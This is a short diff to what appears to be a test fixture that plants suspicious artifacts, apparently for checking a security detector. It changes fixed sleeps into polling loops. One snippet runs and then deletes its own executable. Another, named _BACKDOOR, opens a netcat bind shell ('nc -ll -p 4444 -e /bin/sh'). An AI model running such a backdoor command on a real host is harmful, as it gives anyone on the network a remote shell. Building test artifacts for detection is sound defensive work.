@@ -69,7 +69,7 @@ sync
 digest=$(sha256sum $program | cut -d ' ' -f 1)
 setsid $program sleep 1000000 </dev/null >/dev/null 2>&1 &
 pid=$!
-usleep 200000
+until [ "$(readlink /proc/$pid/exe)" = $program ]; do usleep 50000; done
 rm $program
 details="\"path\": \"$program\", \"pid\": $pid, \"sha256\": \"$digest\", \"deleted\": true"
 """
@@ -77,8 +77,7 @@ details="\"path\": \"$program\", \"pid\": $pid, \"sha256\": \"$digest\", \"delet
 _BACKDOOR = r"""
 setsid nc -ll -p 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &
 pid=$!
-usleep 200000
-netstat -ltn | grep -q ':4444 ' || exit 1
+until netstat -ltn | grep -q ':4444 '; do usleep 50000; done
 details="\"pid\": $pid, \"port\": 4444"
 """
 
